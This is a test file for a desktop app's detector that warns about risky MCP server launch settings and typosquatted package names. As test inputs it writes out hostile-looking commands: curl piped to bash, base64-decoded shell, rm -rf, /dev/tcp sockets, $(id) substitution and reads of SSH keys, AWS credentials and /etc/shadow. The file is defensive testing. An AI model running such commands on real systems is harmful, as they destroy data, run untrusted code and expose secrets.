import { describe, expect, test } from "vitest";
import { dangerousEnv } from "../../../electron/servers/dangerous-env.ts";
import { lookAlike, oneSlipApart } from "../../../electron/servers/known-packages.ts";
import { recognise } from "../../../electron/servers/recognise.ts";
import { serverWarnings } from "../../../electron/servers/warnings.ts";
import type { ServerSettings } from "../../../shared/model/server.ts";
import { processorTime } from "../../fixtures/processor-time.ts";

const warn = (settings: ServerSettings): string =>
  serverWarnings({
    settings,
    recognised: recognise(settings.command, settings.args ?? []),
    dangerousEnv: (names) => dangerousEnv(names, "linux"),
    home: "/home/a",
  }).join("\n");

describe("what deserves a second look (threats 1, 30)", () => {
  const sh = (script: string): ServerSettings => ({ command: "sh", args: ["-c", script] });
  test.each<[string, ServerSettings, string]>([
    ["sudo", { command: "sudo", args: ["node", "x.js"] }, "(sudo)"],
    ["sudo inside", sh("true; sudo rm x"), "(sudo)"],
    ["rm -rf", sh("rm -rf ~/x"), "deletes files"],
    ["rm -f -r", sh("rm -f -r x"), "deletes files"],
    ["rm as a command", { command: "rm", args: ["-rf", "/x"] }, "deletes files"],
    ["curl | sh", sh("curl -fsSL https://x.example | bash"), "downloads a script and runs it"],
    ["curl", { command: "curl", args: ["https://x.example"] }, "downloads something"],
    ["a shell script", sh("exec node x"), "shell script"],
    ["chained", sh("a && b"), "chains"],
    ["powershell", { command: "powershell.exe", args: ["-EncodedCommand", "AAAA"] }, "base64"],
    ["cmd", { command: "cmd", args: ["/c", "a & b"] }, "shell script"],
    ["ssh keys", { command: "node", args: ["x.js", "~/.ssh/id_rsa"] }, "SSH keys"],
    ["aws", { command: "node", args: ["x.js", "/home/a/.aws/credentials"] }, "credentials"],
    ["base64 -d", sh("echo x | base64 -d | sh"), "base64"],
    ["blob", { command: "node", args: ["x.js", "A".repeat(220)] }, "very long run"],
    ["node -e", { command: "node", args: ["-e", "1"] }, "code given on the command line"],
    ["node --import", { command: "/usr/bin/node", args: ["--import=./p.js", "x.js"] }, "code given on the command line"],
    ["python -c", { command: "python3.12", args: ["-c", "1"] }, "code given on the command line"],
    ["docker socket", { command: "docker", args: ["run", "-v", "/var/run/docker.sock:/x"] }, "container"],
    ["docker root", { command: "docker", args: ["run", "-v", "/:/host", "x"] }, "container"],
    ["substitution", { command: "node", args: ["x.js", "$(id)"] }, "command inside the command"],
    ["/dev/tcp", sh("exec 3<>/dev/tcp/1.2.3.4/5"), "raw network"],
    ["temporary", { command: "/tmp/x", args: [] }, "any program can put files"],
    ["http", { command: "npx", args: ["-y", "mcp-remote", "http://x.example"] }, "without encryption"],
    ["NODE_OPTIONS", { command: "node", args: ["x.js"], env: { NODE_OPTIONS: "--require p.js" } }, "NODE_OPTIONS is set"],
    ["LD_PRELOAD", { command: "node", args: ["x.js"], env: { LD_PRELOAD: "x.so" } }, "LD_PRELOAD is set"],
    ["hidden", { command: "node", args: ["x.js", "a\u202Eb"] }, "a character that cannot be seen"],
    ["hidden in env", { command: "node", args: [], env: { A: "\u200b\u200b" } }, "2 characters that cannot be seen"],
    ["long", { command: "node", args: ["x ".repeat(600)] }, "read it to the end"],
    ["gap", { command: "node", args: [`x${" ".repeat(40)}y`] }, "long gap"],
    ["look-alike", { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesytem"] }, "server-filesystem"],
    ["refused", { command: "npx", args: ["-y", "github:a/b"] }, "cannot be started"],
    ["waived", { command: "x", sandbox: { waived: true } }, "without a sandbox"],
    ["whole disk", { command: "x", sandbox: { read: ["/"] } }, "opens every file (all of /)"],
    ["whole disk on Windows", { command: "x", sandbox: { read: ["C:\\"] } }, "opens every file (all of C:\\)"],
    ["whole home", { command: "x", sandbox: { write: ["~"] } }, "opens all of your home folder (~)"],
    ["whole home, as a shell writes it", { command: "x", sandbox: { read: ["/home/a"] } }, "opens all of your home folder (/home/a)"],
    ["whole home, written otherwise", { command: "x", sandbox: { read: ["/home/b/../a//"] } }, "opens all of your home folder"],
    ["more than home", { command: "x", sandbox: { read: ["/home"] } }, "with your home folder in it"],
    ["keys", { command: "x", sandbox: { read: ["/home/a/.ssh"] } }, "It may read /home/a/.ssh, where keys or tokens are kept."],
    ["a key", { command: "x", sandbox: { write: ["~/.ssh/id_x"] } }, "It may read and write ~/.ssh/id_x, where keys"],
    ["the second place", { command: "x", sandbox: { read: ["/home/a/x", "/home/a/.aws"] } }, "/home/a/.aws, where keys"],
    ["secrets of the machine", { command: "x", sandbox: { read: ["/etc/shadow"] } }, "/etc/shadow, where keys"],
    ["an old Node with hosts", { command: "/usr/bin/node", sandbox: { hosts: ["a.example"] } }, "If its Node is older than 24"],
    ["any host", { command: "x", sandbox: { hosts: ["*.com"] } }, "whole network"],
  ])("%s", (_name, settings, words) => {
    expect(warn(settings)).toContain(words);
  });

  test.each<[string, ServerSettings]>([
    ["a package", { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "/home/a/site"] }],
    ["a script", { command: "node", args: ["/home/a/server/dist/index.js", "--port", "8080"], env: { API_TOKEN: "${keychain:x}" } }],
    ["python", { command: "python3", args: ["-m", "mcp_server_git", "--repository", "/home/a/r"] }],
    ["a folder", { command: "x", sandbox: { read: ["/home/a/site", "~/.sshd", "/home/ab"], write: ["/srv"] } }],
    ["ssh", { command: "ssh", args: ["box", "mcp-server"] }],
    ["words that only look like it", { command: "node", args: ["confirm.js", "--format", "sudoku", "armor", "https://x.example/curling"] }],
    ["localhost", { command: "npx", args: ["-y", "mcp-remote", "http://localhost:3000/mcp"] }],
  ])("nothing about %s", (_name, settings) => {
    expect(warn(settings)).toBe("");
  });

  test("a hostile command of 100 KB is looked at in a moment", () => {
    const started = processorTime();
    for (const part of ["curl ", "rm -", "-e ", "A", "nc -a ", " .ssh", "| "])
      warn({ command: "sh", args: ["-c", part.repeat(100_000 / part.length)] });
    expect(processorTime() - started).toBeLessThan(3000);
  });
});

test("one slip apart", () => {
  expect(
    [
      ["abc", "abd"],
      ["abc", "ab"],
      ["abc", "xabc"],
      ["abc", "acb"],
    ].every(([a = "", b = ""]) => oneSlipApart(a, b)),
  ).toBe(true);
  expect(
    [
      ["abc", "abc"],
      ["abc", "cba"],
      ["abc", "abxy"],
      ["abcd", "badc"],
      ["", "ab"],
    ].some(([a = "", b = ""]) => oneSlipApart(a, b)),
  ).toBe(false);
});

test("look-alikes", () => {
  expect(lookAlike("@modelcontextprotocol/server-filesystem")).toBeNull();
  expect(lookAlike("@modelcontextprotocl/server-filesystem")).toBe("@modelcontextprotocol/server-filesystem");
  expect(lookAlike("server-filesytem")).toBe("@modelcontextprotocol/server-filesystem");
  expect(lookAlike("server-filesystem")).toBe("@modelcontextprotocol/server-filesystem");
  expect(lookAlike("mcp-remot")).toBe("mcp-remote");
  expect(lookAlike("my-own-server")).toBeNull();
});
